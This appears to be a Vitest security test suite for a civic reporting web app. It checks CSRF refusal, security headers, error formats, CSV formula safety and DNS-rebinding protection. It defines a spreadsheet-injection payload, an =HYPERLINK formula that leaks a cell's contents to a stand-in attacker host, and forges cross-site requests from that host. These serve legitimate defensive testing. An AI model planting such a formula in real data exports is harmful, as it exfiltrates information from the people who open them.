import { randomBytes } from "node:crypto";
import { request } from "node:http";
import { parse } from "csv-parse/sync";
import type { Connection } from "mongoose";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { startApp, type RunningApp } from "../../app/start-app.js";
import { loadConfig } from "../../platform/config.js";
import { openConnection } from "../../platform/database.js";
import { createLogger } from "../../platform/logger.js";
import { createServer } from "../../server/app.js";
import { declareAudience, routesOf, type RouteEntry } from "../../server/route-table.js";
import { createApiKey } from "../../services/access/api-keys.js";
import { adminCookie } from "../support/console-client.js";
import { freePort } from "../support/free-port.js";

/** What fetch can send (Fastify's `all` also lists TRACE and CONNECT). */
const SENDABLE = new Set(["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"]);
const EVIL = { origin: "https://evil.example", "sec-fetch-site": "cross-site" };
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem ảnh")';
/** Traces of our insides that no error body may carry. */
const INTERNALS = /\s+at\s+\S+\s+\(|\.ts:\d+|node_modules|MongoServerError|E11000|"stack"/;

let conn: Connection;
let app: RunningApp;
let base = "";
let staffCookie = "";
let csrf = "";
let simToken = "";
let ticket = "";

/** A concrete path for a route pattern: a real ticket and chart where the pattern names them. */
const concrete = (url: string) =>
  url.replace(":number", ticket).replace(":chart.csv", "wards.csv").replace(":format", "pdf").replace(/:\w+/g, "x").replace("*", "x");

const send = (r: Pick<RouteEntry, "method" | "url">, headers: Record<string, string> = {}, body?: string) =>
  fetch(`${base}${concrete(r.url)}`, { method: r.method, headers, body: r.method === "GET" || r.method === "HEAD" ? undefined : (body ?? ""), redirect: "manual" });

/** The surface's own error format, and nothing of our insides. */
async function expectOwnErrorFormat(r: RouteEntry, res: Response): Promise<void> {
  const text = await res.text();
  const where = `${r.method} ${r.url} → ${res.status}`;
  expect(res.status, where).toBeLessThan(500);
  expect(text, where).not.toMatch(INTERNALS);
  if (res.status < 400) return;
  const type = res.headers.get("content-type") ?? "";
  if (r.url.startsWith("/open311/")) {
    if (type.includes("xml")) expect(text, where).toMatch(/<errors>\s*<error>\s*<code>\d+<\/code>\s*<description>/);
    else expect((JSON.parse(text) as { code: number; description: string }[])[0], where).toMatchObject({ code: res.status, description: expect.any(String) });
  } else if ((r.url.startsWith("/console") || r.url.startsWith("/reports")) && type.startsWith("text/html")) {
    // The staff console and the public reports are pages for people: their errors are pages too.
    expect(text, where).toMatch(/^<!doctype html>/i);
  } else if (r.audience !== "emulator") {
    expect(JSON.parse(text), where).toMatchObject({ error: expect.any(String) });
  }
}

beforeAll(async () => {
  const dbName = `t_routes_${randomBytes(5).toString("hex")}`;
  conn = await openConnection(inject("mongoUri"), dbName);
  const uri = new URL(inject("mongoUri"));
  uri.pathname = `/${dbName}`;
  const config = loadConfig({ SIMULATOR: "on", MONGODB_URI: uri.href, HTTP_PORT: String(await freePort()), REGISTRY_SIGNING_KEY: "route-table-test-signing-key" });
  app = await startApp(config, createLogger("silent"));
  base = app.httpUrl!;

  // A partner files a report whose address is a formula; a supervisor will export it.
  const { key } = await createApiKey(app.stores.apiClients, "Trung tâm IOC", undefined, new Date());
  const filed = await fetch(`${base}/open311/v2/requests.json`, {
    method: "POST", body: new URLSearchParams({ api_key: key, service_code: "no_poster", lat: "16.4745", long: "107.6150", address_string: FORMULA }),
  });
  expect(filed.status).toBe(200);
  ticket = ((await filed.json()) as { service_request_id: string }[])[0]!.service_request_id;

  staffCookie = await adminCookie(base, app.stores, "route-table-admin");
  csrf = /<meta name="csrf-token" content="([^"]+)">/.exec(await (await fetch(`${base}/console/queue`, { headers: { cookie: staffCookie } })).text())![1]!;
  simToken = (JSON.parse(/<script type="application\/json" id="sim-data">([^<]*)<\/script>/.exec(await (await fetch(`${base}/`)).text())![1]!) as { token: string }).token;
}, 120_000);

afterAll(async () => {
  await app?.stop();
  await conn?.dropDatabase().catch(() => undefined);
  await conn?.close();
});

describe("the route table", () => {
  it("refuses to register a route that declares no audience, and a scope's declaration covers its routes", async () => {
    const server = createServer();
    expect(() => server.get("/forgot", async () => "x")).toThrow(/declares no audience/);
    await server.register(async (scope) => {
      declareAudience(scope, "staff");
      scope.post("/act", async () => "x");
    });
    await server.ready();
    expect(routesOf(server).find((r) => r.url === "/act")).toEqual({ method: "POST", url: "/act", audience: "staff", changesState: true });
    await server.close();
  });

  it("the assembled app declares every route: console, Open311, simulator, emulators, webhooks, health, operations", () => {
    const audienceOf = (method: string, url: string) => app.routes.find((r) => r.method === method && r.url === url)?.audience;
    expect(audienceOf("GET", "/healthz")).toBe("public");
    expect(audienceOf("GET", "/metrics")).toBe("operator");
    expect(audienceOf("POST", "/zalo")).toBe("webhook");
    expect(audienceOf("POST", "/open311/v2/requests.json")).toBe("partner");
    expect(audienceOf("GET", "/open311/v2/requests.json")).toBe("public");
    expect(audienceOf("POST", "/sim/api/reset")).toBe("simulator");
    expect(audienceOf("POST", "/sim/telegram/*")).toBe("emulator");
    expect(audienceOf("POST", "/console/sign-in/:token")).toBe("public");
    // The console's public part is signing in and its assets; everything else needs a session.
    const consolePublic = app.routes.filter((r) => r.url.startsWith("/console") && r.audience === "public" && r.method !== "HEAD").map((r) => `${r.method} ${r.url}`);
    expect(consolePublic.sort()).toEqual(["GET /console/assets/*", "GET /console/sign-in/:token", "GET /console/signed-out", "POST /console/sign-in/:token"]);
  });

  it("every state-changing route a browser can reach refuses another site's request, with its credentials, in its own format", async () => {
    const changing = app.routes.filter((r) => r.changesState && SENDABLE.has(r.method) && ["public", "staff", "simulator", "emulator"].includes(r.audience));
    expect(changing.length).toBeGreaterThan(10);
    for (const r of changing) {
      const credentials = { cookie: staffCookie, "x-csrf-token": csrf, "x-sim-token": simToken, "content-type": "application/x-www-form-urlencoded" };
      const res = await send(r, { ...credentials, ...EVIL }, `_csrf=${csrf}`);
      expect(res.status, `${r.method} ${r.url}`).toBe(403);
      await expectOwnErrorFormat(r, res);
      // An Origin alone (an older browser without fetch metadata) is refused too; so is a same-site subdomain.
      expect((await send(r, { ...credentials, origin: base, "sec-fetch-site": "same-site" }, `_csrf=${csrf}`)).status, `${r.method} ${r.url}`).toBe(403);
      expect((await send(r, { ...credentials, origin: "https://evil.example" }, `_csrf=${csrf}`)).status, `${r.method} ${r.url}`).toBe(403);
    }
  });

  it("a staff route refuses without a session or without the CSRF token; a simulator route without the page's token", async () => {
    for (const r of app.routes.filter((x) => x.changesState && (x.audience === "staff" || x.audience === "simulator"))) {
      const form = { "content-type": "application/x-www-form-urlencoded" };
      const none = await send(r, form, "a=1");
      expect(none.status, `${r.method} ${r.url}`).toBe(r.audience === "staff" ? 401 : 403);
      await expectOwnErrorFormat(r, none);
      if (r.audience === "staff") expect((await send(r, { ...form, cookie: staffCookie }, "a=1")).status, `${r.method} ${r.url}`).toBe(403);
    }
  });

  it("every page carries the security headers, every CSV is formula-safe, every error is in its surface's format", async () => {
    let pages = 0;
    let csvs = 0;
    for (const r of app.routes.filter((x) => x.method === "GET" && x.url !== "/sim/api/events")) {
      for (const headers of [{ cookie: staffCookie }, {}] as Record<string, string>[]) {
        const res = await send(r, headers);
        const type = res.headers.get("content-type") ?? "";
        expect(res.headers.get("x-content-type-options"), `${r.url}`).toBe("nosniff");
        if (type.startsWith("text/html")) {
          pages++;
          const csp = res.headers.get("content-security-policy") ?? "";
          expect(csp, r.url).toContain("base-uri 'none'");
          expect(csp, r.url).toContain("frame-ancestors 'none'");
          expect(csp, r.url).not.toMatch(/script-src[^;]*'unsafe-inline'/);
          expect(res.headers.get("referrer-policy"), r.url).toMatch(/^(no-referrer|same-origin)$/);
        }
        if (type.startsWith("text/csv") && res.status === 200) {
          csvs++;
          const cells = (parse((await res.clone().text()).replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][]).flat();
          expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c)), r.url).toEqual([]);
          if (r.url === "/console/queue.csv") expect(cells).toContain(`'${FORMULA}`);
        }
        await expectOwnErrorFormat(r, res);
      }
    }
    expect(pages).toBeGreaterThan(8);
    expect(csvs).toBeGreaterThanOrEqual(3);
  });

  it("the simulator's reset and act refuse another site's page and leave the data intact; reset never empties MONGODB_URI", async () => {
    const tickets = () => conn.collection("tickets").countDocuments();
    const before = await tickets();
    expect(before).toBe(1);
    const json = { "content-type": "application/json" };
    // A page elsewhere cannot know the token; a forged one with the token still carries its Origin.
    const forged = [
      { url: "/sim/api/reset", headers: { ...json, ...EVIL }, body: "{}" },
      { url: "/sim/api/reset", headers: { ...json, "x-sim-token": simToken, ...EVIL }, body: "{}" },
      { url: "/sim/api/act", headers: { ...json, ...EVIL }, body: JSON.stringify({ persona: "officer-phu-xuan", chat: "tg:1", kind: "text", text: "/web" }) },
      { url: "/sim/api/reset", headers: { "content-type": "text/plain" }, body: "{}" },
    ];
    for (const f of forged) expect((await fetch(`${base}${f.url}`, { method: "POST", headers: f.headers, body: f.body })).status).toBe(403);
    // Even from the page itself: this database is MONGODB_URI's, not the simulator's own folder.
    const own = await fetch(`${base}/sim/api/reset`, { method: "POST", headers: { ...json, "x-sim-token": simToken, origin: base, "sec-fetch-site": "same-origin" }, body: "{}" });
    expect(own.status).toBe(409);
    expect(await tickets()).toBe(before);
    expect(await conn.collection("apiclients").countDocuments()).toBe(1);
    // A rebound DNS name pointing at 127.0.0.1 is not a name the simulator answers to.
    const rebound = await new Promise<number>((resolve, reject) => {
      request(`${base}/sim/api/chats?persona=officer-phu-xuan`, { headers: { host: "evil.example" } }, (res) => (res.resume(), resolve(res.statusCode ?? 0))).on("error", reject).end();
    });
    expect(rebound).toBe(421);
  });

  it("a broken body gets the surface's own error, never a 500", async () => {
    for (const r of app.routes.filter((x) => x.changesState && x.audience !== "emulator")) {
      const res = await send(r, { cookie: staffCookie, "x-csrf-token": csrf, "x-sim-token": simToken, "content-type": "application/json" }, "{");
      await expectOwnErrorFormat(r, res);
    }
  });
});
